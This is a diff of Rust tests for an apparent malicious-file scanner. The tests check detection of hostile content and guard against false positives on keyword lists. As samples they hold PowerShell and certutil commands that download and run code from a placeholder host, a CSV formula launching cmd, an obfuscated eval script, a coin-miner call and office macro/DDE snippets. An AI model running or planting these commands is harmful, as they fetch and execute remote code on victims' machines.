@@ -235,6 +235,28 @@ mod tests {
     }
 
     #[test]
+    fn commands_are_told_from_lists_of_words() {
+        for command in [
+            "IEX (New-Object Net.WebClient).DownloadString('https://example.net/x.ps1')",
+            "iex ((new-object System.Net.WebClient).DownloadString(\"http://example.net\"))",
+            "iex (irm https://example.net/x)",
+            "Invoke-Expression (Invoke-WebRequest -UseBasicParsing -Uri 'https://example.net/x.ps1')",
+            "irm https://example.net/x | iex",
+            "certutil.exe -f -urlcache https://example.net/a.exe a.exe",
+        ] {
+            assert_eq!(one(command.as_bytes(), "a.txt"), "downloads_and_runs", "{command}");
+        }
+        // As the highlighter's PowerShell grammar has them.
+        let keywords = "ac|clc|curl|epal|gal|icm|iex|ihy|ii|ipal|irm|ise|iwmi|iwr|kill|lp|ls|man|md|wget|where|write";
+        let spaced = keywords.replace('|', " ");
+        let quoted =
+            "\"Invoke-Expression Invoke-History Invoke-Item Invoke-RestMethod Invoke-WebRequest DownloadString\"";
+        for list in [keywords, &spaced, quoted] {
+            assert_eq!(matches(list.as_bytes(), "highlight.min.js"), [], "{list}");
+        }
+    }
+
+    #[test]
     fn leaves_prose_alone() {
         let prose = "In jedem Windows-Programm steht der Satz \"This program cannot be run in DOS mode\". \
             Die Dateien beginnen mit MZ, unter Linux mit 7F 45 4C 46. Mit eval() sollte man vorsichtig sein.";
@@ -252,12 +274,8 @@ mod tests {
         assert_eq!(one(b"x", "a.docx!word/vbaProject.bin"), "office_macros");
         assert_eq!(one(b"x", "a.odt!Basic/Standard/Module1.xml"), "opendocument_macros");
         assert_eq!(one(b"\xD0\xCF\x11\xE0\xA1\xB1\x1A\xE1", "a.docx"), "old_office_container");
-        let remote = br#"<Relationship Type="http://schemas/relationships/attachedTemplate" Target="https://x" TargetMode="External"/>"#;
-        assert_eq!(one(remote, "a.docx!word/_rels/settings.xml.rels"), "office_remote_template");
-        assert_eq!(
-            one(b"<w:instrText xml:space='preserve'> DDEAUTO c:\\\\x </w:instrText>", "a.docx!word/document.xml"),
-            "office_dde"
-        );
+        let event = b"<script:event-listener xlink:href=\"vnd.sun.star.script:Standard.Module1.Main\"/>";
+        assert_eq!(one(event, "a.odt!content.xml"), "opendocument_macros");
         assert_eq!(one(b"a,b\n=cmd|' /C calc'!A0,1\n", "a.csv"), "spreadsheet_formula_in_csv");
         assert_eq!(one(b"<script>eval(atob('x'))</script>", "a.html"), "script_hides_code");
         assert_eq!(one(b"new CoinHive.Anonymous('x')", "a.js"), "script_mines_coins");
